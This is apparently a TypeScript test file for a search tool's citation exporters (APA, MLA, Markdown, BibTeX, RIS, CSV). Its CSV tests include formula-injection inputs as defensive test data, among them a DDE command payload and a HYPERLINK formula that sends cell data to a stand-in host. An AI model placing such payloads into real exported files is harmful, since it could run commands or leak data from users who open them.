import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { bibtex } from "../../../../../utils/search/export/bibtex.ts";
import {
  apa,
  apaList,
  markdownList,
  mla,
  mlaList,
} from "../../../../../utils/search/export/citation-styles.ts";
import { type CitedPage, citedPage } from "../../../../../utils/search/export/cited-page.ts";
import { ris } from "../../../../../utils/search/export/ris.ts";
import { csv } from "../../../../../utils/text/csv.ts";
import { result } from "../sample-results.ts";

const PAGE: CitedPage = {
  url: "https://www.irs.gov/credits",
  title: "Child tax credit",
  organization: "Internal Revenue Service",
  domain: "irs.gov",
  published: "2026-05-03",
  language: "en",
};
const ACCESSED = "2026-11-21";

it.each([
  ["https://www.austintexas.gov/water", "austintexas.gov", "austintexas.gov"],
  ["https://data.austintexas.gov/water", "austintexas.gov", "austintexas.gov"],
  ["https://www.b.gov/4", "austintexas.gov", "b.gov"],
  ["no address", "austintexas.gov", "austintexas.gov"],
  ["https://www.b.gov/4", "", ""],
])("the site of a page at %s that the service calls %j is cited as %j", (url, domain, site) => {
  const cited = citedPage({ ...result({ title: "Water" }), url, domain, organization: "" }, (html) => html);
  expect(cited.domain).toBe(site);
});

describe("CSV", () => {
  it.each(["=1+1", "+1", "-1", "@x", "\t=1", "  =1", "\r=1", "＝1", "|x", "%x"])(
    "%j is text, not a formula",
    (cell) => {
      const [, row = ""] = csv(["a"], [[cell]]).split("a\r\n");
      expect(row.replace(/^"/, "").startsWith("'")).toBe(true);
    },
  );

  it.each([
    ['Foo;=HYPERLINK("http://x/?"&A2);bar', `Foo;'=HYPERLINK("http://x/?"&A2);bar`],
    ["a; @SUM(1)", "a; '@SUM(1)"],
    ['Budget;"=1+1;', `Budget;"'=1+1;`],
    ["Budget;\n=1+1;", "Budget;\n'=1+1;"],
    ["Budget\n=cmd|' /C calc'!A1;", "Budget\n'=cmd|' /C calc'!A1;"],
    ["First line\n- second", "First line\n- second"],
    ["a;-2+3", "a;'-2+3"],
    ["Parks; - roads", "Parks; - roads"],
    ["a; b = c", "a; b = c"],
  ])("%j holds no formula where cells are parted at semicolons", (cell, safe) => {
    expect(parseCsv(csv(["a"], [[cell]]).slice(1))[1]).toEqual([safe]);
  });

  it("comes back as it was by the rules of RFC 4180", () => {
    const rows = fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 2 }), {
      minLength: 1,
    });
    fc.assert(
      fc.property(rows, (cells) => {
        const back = parseCsv(csv(["a", "b"], cells).slice(1)).slice(1);
        const bare = (cell: string): string => cell.replaceAll("'", "");
        expect(back.map((row) => row.map(bare))).toEqual(cells.map((row) => row.map(bare)));
      }),
    );
  });

  it("begins with a byte order mark and leaves what is missing empty", () => {
    expect(csv(["a", "b"], [[null, "x"]])).toBe("\uFEFFa,b\r\n,x\r\n");
  });
});

function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === "\r\n") rows.push([]);
  }
  return rows.slice(0, -1);
}

describe("APA", () => {
  it("names author, date, title and the day the page was read", () => {
    expect(apa(PAGE, ACCESSED)).toBe(
      "Internal Revenue Service. (2026, May 3). Child tax credit. Retrieved November 21, 2026, from https://www.irs.gov/credits",
    );
  });

  it("says n.d. where the page declares no date, and begins with the title where nobody is named", () => {
    expect(apa({ ...PAGE, published: null, organization: "" }, ACCESSED)).toMatch(
      /^Child tax credit\. \(n\.d\.\)\. /,
    );
  });
});

describe("MLA", () => {
  it("begins with the title, since author and publisher are one", () => {
    expect(mla(PAGE, ACCESSED)).toBe(
      "“Child tax credit.” Internal Revenue Service, 3 May 2026, https://www.irs.gov/credits. Accessed 21 Nov. 2026.",
    );
  });

  it("turns quotation marks inside the title into single ones and adds no second stop", () => {
    expect(mla({ ...PAGE, title: 'Is "free" filing free?' }, ACCESSED)).toMatch(
      /^“Is ‘free’ filing free\?” /,
    );
  });
});

describe("Markdown", () => {
  it("keeps marks of the language out of the title and the link whole", () => {
    const line = markdownList([{ ...PAGE, title: "A [b] *c* <d>", url: "https://a.gov/x_(y)>z" }], ACCESSED);
    expect(line).toBe(
      "- [A \\[b\\] \\*c\\* \\<d\\>](<https://a.gov/x_(y)%3Ez>), Internal Revenue Service, 2026-05-03, accessed 2026-11-21\n",
    );
  });
});

it("a list item in Markdown names only what is known of the page", () => {
  const line = markdownList([{ ...PAGE, organization: "", published: "" }], ACCESSED);
  expect(line).toBe("- [Child tax credit](<https://www.irs.gov/credits>), accessed 2026-11-21\n");
});

describe("BibTeX", () => {
  it("writes one entry a page, month as its three letters, with the day it was read", () => {
    expect(bibtex([PAGE], ACCESSED)).toBe(
      [
        "@misc{internalrevenueservice2026child,",
        "  title = {{Child tax credit}},",
        "  author = {{Internal Revenue Service}},",
        "  year = {2026},",
        "  month = may,",
        "  day = {3},",
        "  url = {https://www.irs.gov/credits},",
        "  urldate = {2026-11-21},",
        "  note = {Accessed: 2026-11-21}",
        "}",
        "",
      ].join("\n"),
    );
  });

  it("tells the keys of many alike pages apart", () => {
    const keys = [
      ...bibtex(
        Array.from({ length: 60 }, () => PAGE),
        ACCESSED,
      ).matchAll(/@misc\{([^,]+),/g),
    ].map(([, key]) => key);
    expect(new Set(keys).size).toBe(60);
  });

  it("writes a brace as a command: BibTeX counts braces behind a backslash too", () => {
    expect(bibtex([{ ...PAGE, title: "Form {12" }], ACCESSED)).toContain("{{Form \\textbraceleft{}12}}");
    expect(bibtex([{ ...PAGE, title: "Form 12}" }], ACCESSED)).toContain("{{Form 12\\textbraceright{}}}");
  });

  it("has braces in pairs whatever the page says", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."{}\\a ") }), fc.string(), (title, path) => {
        const text = bibtex([{ ...PAGE, title, url: `https://a.gov/${path}` }], ACCESSED);
        let depth = 0;
        for (const [piece] of text.matchAll(/[{}]/g)) {
          if (piece === "{") depth += 1;
          if (piece === "}") depth -= 1;
          expect(depth).toBeGreaterThanOrEqual(0);
        }
        expect(depth).toBe(0);
      }),
    );
  });
});

describe("RIS", () => {
  it("gives each field its line, ended by CR LF, and ends the record", () => {
    expect(ris([PAGE], ACCESSED)).toBe(
      [
        "TY  - ELEC",
        "TI  - Child tax credit",
        "AU  - Internal Revenue Service",
        "PY  - 2026",
        "DA  - 2026/05/03/",
        "UR  - https://www.irs.gov/credits",
        "Y2  - 2026/11/21/",
        "LA  - en",
        "ER  - ",
        "",
      ].join("\r\n"),
    );
  });

  it("keeps every line a field, whatever a title holds", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (title) => {
        const lines = ris([{ ...PAGE, title: `x${title}` }], ACCESSED)
          .split("\r\n")
          .slice(0, -1);
        for (const line of lines) expect(line).toMatch(/^[A-Z][A-Z0-9] {2}- /);
      }),
    );
  });
});

describe("a list in APA", () => {
  const dated = (title: string, published: string | null, organization = "Agency"): CitedPage => ({
    ...PAGE,
    title,
    published,
    organization,
  });
  const begins = (pages: readonly CitedPage[]): readonly string[] =>
    apaList(pages, ACCESSED).map((entry) => entry.replace(/\. Retrieved.*| Retrieved.*/, ""));

  it("gives letters to pages of one author and year, by date and then by title without its article", () => {
    const pages = [
      dated("The wages", "2026-05-03"),
      dated("Air", "2026-11-01"),
      dated("Taxes", "2026-05-03"),
      dated("Old", "2025-12-31"),
      dated("Other", "2026-05-03", "Bureau"),
    ];
    expect(begins(pages)).toEqual([
      "Agency. (2025, December 31). Old",
      "Agency. (2026a, May 3). Taxes",
      "Agency. (2026b, May 3). The wages",
      "Agency. (2026c, November 1). Air",
      "Bureau. (2026, May 3). Other",
    ]);
  });

  it("puts pages without a date first, with letters of their own", () => {
    const pages = [dated("B", null), dated("C", "2026-01-01"), dated("A", null)];
    expect(begins(pages)).toEqual([
      "Agency. (n.d.-a). A",
      "Agency. (n.d.-b). B",
      "Agency. (2026, January 1). C",
    ]);
  });

  it("has a letter for each of many", () => {
    const many = Array.from({ length: 28 }, () => dated("Same", "2026-01-01"));
    expect(begins(many).slice(24).join()).toMatch(/2026y.*2026z.*2026aa.*2026ab/);
  });
});

it("a list in MLA is sorted by title, without its article", () => {
  const titles = ["The wages", "Zoning", "An air plan"].map((title) => ({ ...PAGE, title }));
  expect(mlaList(titles, ACCESSED).map((entry) => entry.slice(0, 5))).toEqual(["“An a", "“The ", "“Zoni"]);
});

const MONTHS = Array.from({ length: 12 }, (_, index) => {
  const date = new Date(Date.UTC(2026, index, 9));
  const named = (month: "long" | "short") =>
    new Intl.DateTimeFormat("en-US", { month, timeZone: "UTC" }).format(date);
  return [date.toISOString().slice(0, 10), named("long"), named("short")] as const;
});

it.each(MONTHS)("%s is in %s, in each form's own way", (published, long, short) => {
  const page = { ...PAGE, published };
  expect(apa(page, ACCESSED)).toContain(`(2026, ${long} 9).`);
  expect(bibtex([page], ACCESSED)).toContain(`  month = ${short.toLowerCase()},\n  day = {9},`);
  // MLA cuts months of more than four letters; September after its fourth.
  const cut = long.length <= 4 ? long : `${long === "September" ? "Sept" : short}.`;
  expect(mla(page, ACCESSED)).toContain(`, 9 ${cut} 2026, `);
  expect(mla(PAGE, published)).toContain(`Accessed 9 ${cut} 2026.`);
  expect(apa(PAGE, published)).toContain(`Retrieved ${long} 9, 2026, from`);
});

describe("a BibTeX entry", () => {
  it.each([
    ["\\", "\\textbackslash{}"],
    ["{", "\\textbraceleft{}"],
    ["}", "\\textbraceright{}"],
    ["$", "\\$"],
    ["&", "\\&"],
    ["#", "\\#"],
    ["_", "\\_"],
    ["%", "\\%"],
    ["~", "\\textasciitilde{}"],
    ["^", "\\textasciicircum{}"],
    ["é", "é"],
  ])("writes %s as %s in its title and organization, and an address as it is", (sign, written) => {
    const page = {
      ...PAGE,
      title: `A ${sign} b`,
      organization: `B ${sign}`,
      url: "https://a.gov/x_y%20z#~&$^",
    };
    const entry = bibtex([page], ACCESSED);
    expect(entry).toContain(`title = {{A ${written} b}}`);
    expect(entry).toContain(`author = {{B ${written}}}`);
    expect(entry).toContain("url = {https://a.gov/x_y%20z#~&$^},");
  });

  it.each<[Partial<CitedPage>, string]>([
    [{}, "internalrevenueservice2026child"],
    [{ organization: "" }, "irsgov2026child"],
    [{ organization: "Office of the Chief of Staff" }, "officeofthe2026child"],
    [{ organization: "税務局", title: "税" }, "page2026page"],
    [{ published: null }, "internalrevenueservicendchild"],
    [{ title: "A tax due" }, "internalrevenueservice2026page"],
    [{ title: "The Évaluation" }, "internalrevenueservice2026evaluation"],
  ])("with %j has the key %s", (change, key) => {
    expect(bibtex([{ ...PAGE, ...change }], ACCESSED)).toMatch(new RegExp(`^@misc\\{${key},\n`));
  });

  it("leaves out who and when where nobody says", () => {
    const entry = bibtex([{ ...PAGE, organization: "", published: null }], ACCESSED);
    expect(entry).not.toMatch(/author|year|month|day =/);
  });

  it("is told from others of its key by letters", () => {
    const entries = bibtex(
      Array.from({ length: 28 }, () => PAGE),
      ACCESSED,
    );
    const keys = [...entries.matchAll(/@misc\{([^,]+),/g)].map(([, key]) => key?.replace(/^.*child/, ""));
    expect([...keys.slice(0, 3), ...keys.slice(25)]).toEqual(["", "b", "c", "z", "ba", "bb"]);
  });
});

it("a RIS record leaves out what nobody says, and the commas of an organization", () => {
  const page = { ...PAGE, organization: "Bureau, Labor", published: null, language: null, title: " A \n b " };
  expect(ris([page, page], ACCESSED)).toBe(
    [
      "TY  - ELEC",
      "TI  - A b",
      "AU  - Bureau Labor",
      "UR  - https://www.irs.gov/credits",
      "Y2  - 2026/11/21/",
      "ER  - ",
      "",
    ]
      .join("\r\n")
      .repeat(2),
  );
});

it.each([
  ["Is it free?", "Is it free? Retrieved"],
  ["It is free!", "It is free! Retrieved"],
  ["It is free.", "It is free. Retrieved"],
  ["It is free", "It is free. Retrieved"],
])("APA ends the title %j once", (title, written) => {
  expect(apa({ ...PAGE, title }, ACCESSED)).toContain(written);
});

it("APA has letters beyond the alphabet", () => {
  const pages = Array.from({ length: 28 }, (_, index) => ({
    ...PAGE,
    title: `T ${String(index).padStart(2, "0")}`,
  }));
  const listed = apaList(pages, ACCESSED).map((entry) => /\(2026([a-z]+),/.exec(entry)?.[1]);
  expect([listed[0], listed[25], listed[26], listed[27]]).toEqual(["a", "z", "aa", "ab"]);
});

it.each([
  [{ organization: "" }, "“Child tax credit.” irs.gov, 3 May 2026, https"],
  [{ published: null }, "“Child tax credit.” Internal Revenue Service, https"],
  [{ title: "Free!" }, "“Free!” Internal"],
])("MLA with %j has %j", (change, written) => {
  expect(mla({ ...PAGE, ...change }, ACCESSED)).toContain(written);
});

it("MLA lists pages by title without its article, and then by organization", () => {
  const pages = [
    { ...PAGE, title: "The zoo" },
    { ...PAGE, title: "“Air”", organization: "The B" },
    { ...PAGE, title: "An air", organization: "A" },
    { ...PAGE, title: "A tax" },
  ];
  const titles = mlaList(pages, ACCESSED).map((entry) => entry.replace(/[.]?” .*/, "”"));
  expect(titles).toEqual(["“An air”", "“‘Air’”", "“A tax”", "“The zoo”"]);
});
